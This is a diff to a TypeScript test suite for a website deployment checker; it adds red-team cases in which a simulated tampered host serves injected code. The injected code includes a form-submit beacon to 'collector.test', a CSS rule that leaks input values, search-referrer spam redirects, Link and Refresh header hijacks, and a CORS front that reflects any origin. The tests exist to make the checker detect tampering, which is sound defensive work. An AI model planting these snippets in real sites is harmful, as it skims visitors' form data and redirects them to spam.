@@ -14,6 +14,7 @@ import { findFreePort } from '../../local-stack/ports';
 import { LOCAL_BUCKETS, type Stack } from '../../local-stack/stack';
 import { sourceCommit } from '../../contracts/build-stamp';
 import { RECOMMENDED_CSP } from '../../scripts/check-deployment/csp';
+import { ZSTD_NOTE } from '../../scripts/check-deployment/http';
 import { DEPLOYED_PAGES, LEAD_TABLES } from '../../scripts/check-deployment/pages';
 import { eventually } from '../support/eventually';
 import { startSiteUnderTest, type SiteUnderTest } from '../support/site-under-test';
@@ -134,7 +135,7 @@ async function checkDeployment(env: Record<string, string>, args = defaultArgs()
       ? [1, `FAIL: ${failed.length} of ${checks.length} checks failed (${failedNames.join('; ')})${skippedNames.length > 0 ? `, and ${skippedNames.length} could not run from here (${skippedNames.join('; ')})` : ''}.`]
       : skippedNames.length > 0
         ? [1, `NOT CHECKED: ${skippedNames.length} of ${checks.length} checks could not run from here (${skippedNames.join('; ')}), so the deployment is not known to work; none of the others failed.`]
-        : [0, `PASS: the deployment passed all ${checks.length} checks.`],
+        : [0, expect.stringMatching(new RegExp(`^PASS: the deployment passed all ${checks.length} checks: the site ${new URL(siteUrl).origin}, `))],
   );
   return { code: result.code, lines, failed };
 }
@@ -260,7 +261,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
     expect(lines.some((line) => /^ok {4}deployment is the version of this checkout: (the check runs from the deployed commit, [0-9a-f]{12}|this checkout \([0-9a-f]{12}\) is \d+ commit\(s\) later than the deployed commit [0-9a-f]{12}, and they change nothing that is deployed \(only docs, tests or the check itself\))$/.test(line)), lines.join('\n')).toBe(true);
     // The stack's e-mail worker runs with the owner's settings, as the site was built.
     expect(lines).toContain(
-      `ok    e-mails show the business's own facts, link to the site and reach its inbox: the e-mail the worker made shows no placeholder of the business settings, gives the site's phone, e-mail address and registration number, its links open the site's pages on 127.0.0.1, and staff e-mails go to ${OWNER_SETTINGS.VITE_BUSINESS_EMAIL}, through an SMTP server that takes the worker's login`,
+      `ok    e-mails show the business's own facts, link to the site and reach its inbox: the e-mail the worker made shows no placeholder of the business settings, gives the site's phone, e-mail address and registration number, its links open the site's pages on 127.0.0.1, and staff e-mails go to ${OWNER_SETTINGS.VITE_BUSINESS_EMAIL}, through 127.0.0.1, without a login, with STARTTLS only if the server offers it (an address only its own machine or network reaches)`,
     );
     // The link the e-mail worker puts in its e-mails (its UNSUBSCRIBE_URL: the gateway's route to the processor), followed.
     expect(lines).toContain(
@@ -278,7 +279,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
     expect(lines).toContain("ok    every e-mail worker instance runs with the settings checked: one instance is alive: the one the lines above checked, built from the site's commit");
     expect(lines).toContainEqual(
       expect.stringMatching(
-        new RegExp(`^ok {4}site is the build in ${site.buildDir}: its ${DEPLOYED_PAGES.length} pages name the same scripts and stylesheets as ${site.buildDir}/ \\(their names carry the build's hashes\\), and the \\d+ it serves are ${site.buildDir}/'s byte for byte$`),
+        new RegExp(`^ok {4}site is the build in ${site.buildDir}: its ${DEPLOYED_PAGES.length} pages name the same scripts and stylesheets as ${site.buildDir}/ \\(their names carry the build's hashes\\), and the \\d+ it serves are ${site.buildDir}/'s byte for byte, asked bare and as desktop Chrome, Android's Chrome, an iPhone's Safari, Instagram's browser on an iPhone load them from the pages$`),
       ),
     );
     expect(lines).toContain(`ok    site served over https with HSTS: https, ${HSTS} (all ${DEPLOYED_PAGES.length} pages)`);
@@ -307,7 +308,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
     for (const page of DEPLOYED_PAGES) {
       expect(lines.some((line) => new RegExp(`^ok {4}page ${page}: 200, prerendered ".+", its \\d+ scripts and stylesheets served$`).test(line)), page).toBe(true);
     }
-    expect(lines).toContain(`ok    pages run only the build's scripts, on a phone and on a second visit too: the ${DEPLOYED_PAGES.length} pages run only scripts the pages in ${site.buildDir}/ have, and phones (Android's Chrome, an iPhone's Safari, Instagram's browser) get the same pages (no page set a cookie, so a second visit is a first)`);
+    expect(lines).toContain(`ok    pages run only the build's scripts, on a phone and on a second visit too: the ${DEPLOYED_PAGES.length} pages run only scripts the pages in ${site.buildDir}/ have, and phones (Android's Chrome, an iPhone's Safari, Instagram's browser), visitors from a Google search and an Instagram advert get the same pages (no page set a cookie, so a second visit is a first)`);
     expect(lines.some((line) => /^ok {4}site built for this deployment: its \d+ scripts use this project's URL, public key and webhook$/.test(line))).toBe(true);
     expect(lines.some((line) => /^ok {4}site publishes no secret key: none in its 7 pages, \d+ scripts, [1-9]\d* source maps and [1-9]\d* other files$/.test(line))).toBe(true);
     expect(lines).toContain(`ok    webhook CORS for the site: 204, allows ${new URL(httpsSite.url).origin} and the page's headers, and the webhook's answers allow ${new URL(httpsSite.url).origin} too`);
@@ -316,7 +317,10 @@ describe('npm run check:deployment on a healthy deployment', () => {
     expect(lines.some((line) => /^ok {4}test photo stored and rendered: stored in this project's Storage, rendered \((200|202)\) and both images served$/.test(line))).toBe(true);
     expect(lines.some((line) => /^ok {4}test rows and photo removed: 5 rows and \d+ stored files removed; no e-mail was queued for them$/.test(line))).toBe(true);
     expect(lines.some((line) => line.startsWith('ok    throttle tells two clients apart: 127.0.0.2 and 127.0.0.3'))).toBe(true);
-    expect(lines.at(-1)).toBe(`PASS: the deployment passed all ${checks.length} checks.`);
+    // What a pass is a pass of, said first and in the pass itself (session 28).
+    const checked = `the site ${new URL(httpsSite.url).origin}, the project ${site.stack.url} and the processor ${site.stack.webhookUrl}, held to the build in ${site.buildDir}/ by the lines of checkout ${checkoutCommit()}${ZSTD_NOTE ? ` (on Node ${process.version}, which asks for no zstd copy)` : ''}`;
+    expect(lines[0]).toBe(`check:deployment of ${checked}`);
+    expect(lines.at(-1)).toBe(`PASS: the deployment passed all ${checks.length} checks: ${checked}.`);
     expect(await leftovers(site.stack)).toEqual([]);
   }, 300_000);
 
@@ -329,7 +333,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
     expect(failed, lines.join('\n')).toEqual([]);
     expect(lines.filter((line) => line.startsWith('skip'))).toEqual([
       `skip  site is the build in ${noBuild}: ${path.join(noBuild, 'index.html')} is not there, so which build the host serves is not known; run the check where the uploaded build is, or name it with --build-dir`,
-      `skip  pages run only the build's scripts, on a phone and on a second visit too: phones (Android's Chrome, an iPhone's Safari, Instagram's browser) get the same pages (no page set a cookie, so a second visit is a first), but without the build in ${noBuild}/ the scripts the pages should run are not known (a host may add its own); run the check where the uploaded build is, or name it with --build-dir`,
+      `skip  pages run only the build's scripts, on a phone and on a second visit too: phones (Android's Chrome, an iPhone's Safari, Instagram's browser), visitors from a Google search and an Instagram advert get the same pages (no page set a cookie, so a second visit is a first), but without the build in ${noBuild}/ the scripts the pages should run are not known (a host may add its own); run the check where the uploaded build is, or name it with --build-dir`,
       "skip  project runs no edge function but the checkout's: could not look: no SUPABASE_ACCESS_TOKEN is set, and only the management API lists a project's edge functions (a personal access token, from the dashboard's Account > Access Tokens; give it to the check as you give it the secret key); an edge function runs with the project's secret key (Supabase gives it SUPABASE_SERVICE_ROLE_KEY), and one deployed with verify_jwt off answers anyone, so one the business does not know of may hand out every lead",
       `skip  site served over https with HSTS: ${new URL(site.siteUrl).origin} is this machine (a local preview): https is asked of the deployed site's address`,
       `skip  pages send a content security policy: none sent: another site may show these pages in a frame of its own (clickjacking on the forms); send decision 033's header (README, "Site"): Content-Security-Policy: ${RECOMMENDED_CSP}`,
@@ -597,6 +601,51 @@ describe('npm run check:deployment on a broken deployment', () => {
     expect(await leftovers(site.stack)).toEqual([]);
   }, 300_000);
 
+  it("fails a host that changes a script or stylesheet only as a browser loads it (an iPhone's Safari, a page's own load), pages that visitors from a search or an advert get otherwise, and headers that send visitors elsewhere or load another site's stylesheet (red-team, session 28)", async () => {
+    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
+      const reply = await upstream();
+      const agent = String(asked.headers['user-agent']);
+      const dest = asked.headers['sec-fetch-dest'];
+      // An edge rule that adds a collector to the entry for iPhones' Safari only, and only to a page's own load of it.
+      if (/^\/assets\/index-[^/]+\.js$/.test(asked.path) && reply.status === 200 && dest === 'script' && /iPhone.*Version\/[\d.]+ Mobile\/\S+ Safari\//.test(agent)) {
+        return { ...reply, body: `${reply.body}\n;addEventListener('submit',e=>navigator.sendBeacon('https://collector.test/',new FormData(e.target)),true);` };
+      }
+      // A stylesheet that reads what Android phones type (a background per value), given only to a stylesheet load.
+      if (/^\/assets\/[^/]+\.css$/.test(asked.path) && reply.status === 200 && dest === 'style' && /Android/.test(agent)) {
+        return { ...reply, body: `${reply.body}\ninput[value^="a"]{background:url(https://collector.test/a)}` };
+      }
+      // The hacked site's conditional redirect: only visitors from a search engine go elsewhere.
+      if (asked.path.split('?')[0] === '/realtors' && String(asked.headers.referer ?? '').startsWith('https://www.google.')) {
+        return { status: 302, headers: { location: 'https://pharmacy.test/' }, body: '' };
+      }
+      // A CDN that sends an advert's ?fbclid= on to the origin, which still serves an earlier build.
+      if (asked.path.startsWith('/investors?') && asked.path.includes('fbclid=')) {
+        return { ...reply, body: reply.body.replace(/data-entry="[^"]*"/g, 'data-entry="/assets/index-0ldBu1ld.js"') };
+      }
+      // What headers do that no HTML shows: a Refresh away from the page, another site's stylesheet by a Link header.
+      if (asked.path.split('?')[0] === '/privacy') return { ...reply, headers: { ...reply.headers, link: '<https://collector.test/p.css>; rel=stylesheet' } };
+      if (asked.path.split('?')[0] === '/terms') return { ...reply, headers: { ...reply.headers, refresh: '5; url=https://pharmacy.test/' } };
+      return reply;
+    });
+    try {
+      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);
+
+      expect(failed, lines.join('\n')).toEqual([
+        expect.stringMatching(
+          new RegExp(
+            `^FAIL {2}site is the build in ${site.buildDir}: the pages name ${site.buildDir}/'s files, but the host serves 2 of them otherwise: (?=.*/assets/index-\\S+\\.js to an iPhone's Safari \\(\\d+ bytes served, \\d+ in ${site.buildDir}/; from character \\d+ it serves " ?;addEventListener\\('submit')(?=.*/assets/\\S+\\.css to Android's Chrome \\(\\d+ bytes served, \\d+ in ${site.buildDir}/; from character \\d+ it serves " ?input\\[value\\^="a"\\]\\{background:url\\(https://collector\\.test/a\\)\\}"\\)).*: code changed after the build`,
+          ),
+        ),
+        expect.stringMatching(
+          /^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/realtors from a Google search \(with an ad click id\): status 302 to https:\/\/pharmacy\.test\/; \/investors from an Instagram advert, in Instagram's browser: \/assets\/index-0ldBu1ld\.js where the first answer names \/assets\/index-\S+\.js \(another build\); \/privacy comes with a Link header's stylesheet of https:\/\/collector\.test\/p\.css, which no build sends; \/terms comes with a Refresh header "5; url=https:\/\/pharmacy\.test\/", which no build sends: /,
+        ),
+      ]);
+    } finally {
+      await host.close();
+    }
+    expect(await leftovers(site.stack)).toEqual([]);
+  }, 300_000);
+
   it("fails a host that sends HSTS, and says not checked for one that sends the content security policy, with the home page only (nginx's add_header in one location block)", async () => {
     const certificate = { key: fs.readFileSync(path.join(certificateFolder, 'key.pem')), cert: fs.readFileSync(path.join(certificateFolder, 'cert.pem')) };
     const host = await startHost(site.siteUrl, otherHttpsPort, async (asked, upstream) => {
@@ -785,6 +834,38 @@ describe('npm run check:deployment on a broken deployment', () => {
         // True as well: the site's build names the stack's own webhook address, not this front's.
         expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use VITE_VISUALIZER_WEBHOOK_URL \(they hold http:\/\/127\.0\.0\.1:\d+\/functions\/v1\/floor-visualizer\) as set here/),
         `FAIL  webhook CORS for the site: its preflight allows ${new URL(site.siteUrl).origin}, but the webhook's own answer does not (it allows https://staging.floors.example; a call answered 400): something in front of the processor answers the preflight itself while the processor's ALLOWED_ORIGINS names another origin, so browsers send the photo but cannot read the reply, and visitors cannot fix the floor or choose a rug; set the processor's ALLOWED_ORIGINS to ${new URL(site.siteUrl).origin}`,
+      ]);
+    } finally {
+      await host.close();
+    }
+    expect(await leftovers(site.stack)).toEqual([]);
+  }, 300_000);
+
+  it("fails a webhook whose front allows any origin only to what looks like a browser's preflight (its fetch metadata), which a bare preflight did not show (red-team, session 28)", async () => {
+    const webhookPath = new URL(site.stack.webhookUrl).pathname;
+    // An edge function's CORS in front of the processor: it reflects any origin, but only for a browser's preflight.
+    const host = await startHost(site.stack.url, await findFreePort(), async (asked, upstream) => {
+      if (asked.method === 'OPTIONS' && asked.headers['sec-fetch-mode'] === 'cors' && asked.headers['sec-fetch-dest'] === 'empty') {
+        return {
+          status: 204,
+          headers: {
+            'access-control-allow-origin': String(asked.headers.origin),
+            'access-control-allow-methods': 'POST',
+            'access-control-allow-headers': String(asked.headers['access-control-request-headers'] ?? ''),
+          },
+          body: '',
+        };
+      }
+      return upstream();
+    });
+    try {
+      const { code, failed, lines } = await checkDeployment({ ...envFor(site.stack), VITE_VISUALIZER_WEBHOOK_URL: `${host.url}${webhookPath}` });
+
+      expect(code).toBe(1);
+      expect(failed, lines.join('\n')).toEqual([
+        // True as well: the site's build names the stack's own webhook address, not this front's.
+        expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use VITE_VISUALIZER_WEBHOOK_URL /),
+        `FAIL  webhook CORS refuses other origins: a preflight from https://deployment-check.invalid is allowed (https://deployment-check.invalid): any web page could post photos; set ALLOWED_ORIGINS to ${new URL(site.siteUrl).origin}`,
       ]);
     } finally {
       await host.close();
